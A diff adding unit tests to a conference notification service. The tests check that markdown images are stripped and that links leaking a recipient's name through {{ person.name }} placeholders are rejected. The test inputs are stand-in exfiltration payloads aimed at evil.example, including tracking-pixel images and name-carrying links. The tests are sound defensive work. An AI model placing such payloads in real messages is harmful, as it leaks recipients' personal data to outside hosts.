@@ -1,11 +1,13 @@
 package io.plenary.services.notifications;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import io.plenary.contracts.conferences.ConferenceStatus;
 import io.plenary.contracts.notifications.MessageKind;
 import io.plenary.contracts.profiles.Profile;
 import io.plenary.contracts.program.ChangeKind;
+import io.plenary.runtime.Faults;
 import java.time.Instant;
 import java.util.HashMap;
 import java.util.List;
@@ -139,5 +141,36 @@ class LettersTest {
             change.put(kind.name().toLowerCase(Locale.ROOT), false);
         }
         return change;
+    }
+
+    /** Whatever a placeholder made of it. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "![x](https://evil.example/p.png)",
+                "![x][My Conf]\n\n[My Conf]: <https://evil.example/p.png?n=Anna Smith>",
+                "[![x](https://evil.example/p.png)](https://example.org)"
+            })
+    void picturesAreNeverShown(String markdown) {
+        assertThat(Prose.html(markdown, "#4a49c9"))
+                .doesNotContain("<img", "p.png")
+                .contains("x");
+        assertThat(Prose.text(markdown)).doesNotContain("p.png");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "[more](https://evil.example/?n={{ person.name }})",
+                "[more](<https://evil.example/?n={{person.name}}>)",
+                "[more][x]\n\n[x]: https://evil.example/?n={{ person.name }}",
+                "<https://evil.example/?n={{ person.name }}>",
+                "https://evil.example/{{ person.name }}"
+            })
+    void noLinkTellsWhoFollowsIt(String text) {
+        Faults faults = new Faults();
+        Placeholders.check(faults, "/text", text, Placeholders.OF_BULLETINS);
+
+        assertThatThrownBy(() -> faults.refuseIfAny("No.")).hasMessageContaining("No.");
     }
 }
